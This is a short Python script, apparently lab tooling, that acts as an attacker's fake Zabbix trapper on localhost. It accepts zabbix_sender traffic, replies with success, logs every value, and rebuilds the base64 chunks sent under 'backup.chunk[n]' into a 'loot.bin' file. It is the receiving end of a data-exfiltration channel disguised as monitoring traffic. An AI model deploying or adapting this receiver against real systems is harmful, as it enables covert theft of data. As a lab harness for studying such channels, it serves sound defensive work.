#!/usr/bin/python3
"""The attacker's fake Zabbix trapper (labremote, 127.0.0.1:10051): accepts
zabbix_sender's requests (ZBXD header + JSON), answers success and keeps
every value (OUT/values.tsv); the chunks of key backup.chunk[<n>] are joined
and base64-decoded into OUT/loot.bin at the end of each connection."""
import argparse, json, os, socketserver, struct, threading, time, zlib

ap = argparse.ArgumentParser()
ap.add_argument("--port", type=int, default=10051)
ap.add_argument("--out", required=True)
ap.add_argument("--lifetime", type=int, default=900)
a = ap.parse_args()
lock = threading.Lock()
chunks = {}


def recv_all(f, n):
    b = b""
    while len(b) < n:
        c = f.read(n - len(b))
        if not c:
            break
        b += c
    return b


class H(socketserver.StreamRequestHandler):
    def handle(self):
        hdr = recv_all(self.rfile, 5)
        if hdr[:4] != b"ZBXD":
            return
        flags = hdr[4]
        ln, rsv = struct.unpack("<II", recv_all(self.rfile, 8))
        body = recv_all(self.rfile, ln)
        if flags & 0x02:
            body = zlib.decompress(body)
        try:
            req = json.loads(body)
        except ValueError:
            req = {"data": []}
        with lock, open(os.path.join(a.out, "values.tsv"), "a") as f:
            for d in req.get("data", []):
                f.write("%s\t%s\t%s\t%d\n" % (time.strftime("%H:%M:%S"), d.get("host"), d.get("key"), len(d.get("value", ""))))
                k = d.get("key", "")
                if k.startswith("backup.chunk["):
                    chunks[int(k[13:-1])] = d.get("value", "")
            if chunks:
                import base64
                raw = "".join(chunks[k] for k in sorted(chunks))
                try:
                    open(os.path.join(a.out, "loot.bin"), "wb").write(base64.b64decode(raw + "=" * (-len(raw) % 4)))
                except Exception:
                    pass
        n = len(req.get("data", []))
        resp = json.dumps({"response": "success", "info": "processed: %d; failed: 0; total: %d; seconds spent: 0.000042" % (n, n)}).encode()
        self.wfile.write(b"ZBXD\x01" + struct.pack("<II", len(resp), 0) + resp)


class S(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True


srv = S(("127.0.0.1", a.port), H)
threading.Timer(a.lifetime, srv.shutdown).start()
srv.serve_forever()
